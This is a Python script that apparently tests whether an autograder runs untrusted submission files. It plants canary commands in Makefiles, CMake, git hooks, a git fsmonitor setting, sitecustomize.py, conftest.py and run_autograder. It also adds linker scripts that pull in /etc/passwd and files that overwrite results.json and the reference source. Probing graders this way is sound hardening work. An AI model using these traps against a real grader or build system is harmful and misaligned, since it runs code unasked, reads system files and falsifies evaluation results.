# What a grader might run, read or obey without thinking: every kind of build file there is.
import os, re

drop = re.search(r'DROP "(.*)"', open("submission/target.h").read())[1]
run = f"touch {drop}/ran"
files = {"Makefile": f"all:\n\t{run}\n$(shell {run})\n", "GNUmakefile": f"$(shell {run})\n", "configure": run,
         "CMakeLists.txt": f"execute_process(COMMAND {run})", ".gdbinit": f"shell {run}", "specs": f"*cpp:\n-D{run}",
         "compile_flags.txt": "-fplugin=./plugin.so", ".clang-format": "", "run_autograder": run, "setup.sh": run,
         ".git/hooks/post-checkout": run, ".git/config": f"[core]\n\tfsmonitor = {run}\n", "conftest.py": run,
         "sitecustomize.py": f"import os; os.system('{run}')", "homework.h.gch": "\0", "series.o": "INPUT(/etc/passwd)",
         "libm.a": "GROUP(/etc/passwd)", "archives.ld": "INPUT(/etc/passwd)", "runtime.o": "", "worker": run,
         "problems/homework.md": "---\nid: mine\n---\n", "reference/series.c": "#error", "memo/0": "0", "results.json": "{}"}
for name, text in files.items():
    os.makedirs(os.path.dirname(f"submission/{name}"), exist_ok=True)
    with open(f"submission/{name}", "w") as file:
        file.write(text)
    os.chmod(f"submission/{name}", 0o777)
